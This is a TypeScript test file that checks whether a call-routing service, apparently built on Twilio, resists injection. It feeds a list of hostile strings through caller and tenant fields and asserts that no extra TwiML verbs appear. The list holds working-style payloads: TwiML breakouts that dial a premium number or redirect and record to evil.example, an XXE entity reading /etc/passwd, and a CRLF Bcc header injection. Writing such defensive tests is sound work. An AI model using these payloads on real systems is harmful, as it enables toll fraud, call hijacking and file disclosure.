import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verbsOfTwiml } from '../../src/providers/twilio/twiml.ts';
import { type InProcess, startInProcess } from '../harness/in-process.ts';
import { printResult } from '../harness/result.ts';

let house: InProcess;
beforeAll(async () => {
  house = await startInProcess();
});
afterAll(() => house.stop());

const params = (over: Record<string, string>) => ({
  From: '+12025550111',
  To: house.number,
  CallStatus: 'ringing',
  ...over,
});

const HOSTILE = [
  '</Say><Dial>+19005550100</Dial><Say>',
  '"><Redirect>https://evil.example/</Redirect><Say language="',
  "'/><Record action='https://evil.example'/>",
  ']]><Hangup/>',
  '<!--',
  '&lt;Dial&gt;',
  '&#60;Dial&#62;+1900&#60;/Dial&#62;',
  '<?xml version="1.0"?><Response><Hangup/></Response>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  'a\r\nBcc: x@evil.example\r\n\r\nhello',
  '\u2028\u2029\u202e',
];

describe('what callers and tenants write', () => {
  it('never becomes a verb', { timeout: 120_000 }, async () => {
    const injected: string[] = [];
    let n = 0;
    await expect(house.route({ fallback: { message: 'a\u0000b\ud800' } })).rejects.toThrow('control characters');
    for (const [index, text] of HOSTILE.entries()) {
      await house.route({
        assistant_id: null,
        fallback: {
          people: [{ name: text.slice(0, 80), phone_number: '+15005550006' }],
          voicemail: index % 2 === 0,
          message: text,
          confirm: index % 3 === 0,
        },
      });
      for (const field of ['From', 'CallerName', 'ForwardedFrom', 'SpeechResult', 'FromCity']) {
        for (const [path, expected] of [
          ['voice', ['Dial']],
          ['after?step=dial&rung=1', index % 2 === 0 ? ['Say', 'Record', 'Hangup'] : ['Say', 'Hangup']],
          ['whisper?n=PN1', undefined],
          [`after?step=${encodeURIComponent(text).replaceAll("'", '%27')}`, ['Dial']],
        ] as const) {
          const CallSid = `CA${(n++).toString(16).padStart(32, '2')}`;
          const twiml = await (await house.twilio(path, params({ CallSid, [field]: text }))).text();
          const verbs = verbsOfTwiml(twiml);
          if (expected === undefined ? twiml.includes('evil') : JSON.stringify(verbs) !== JSON.stringify(expected))
            injected.push(`${path}: ${twiml}`);
        }
      }
    }
    printResult({
      id: 'S23',
      value: injected.length,
      unit: 'injected verbs',
      goal: '0',
      floor: '0',
      pass: injected.length === 0,
      n,
    });
    expect(injected).toEqual([]);
  });
});
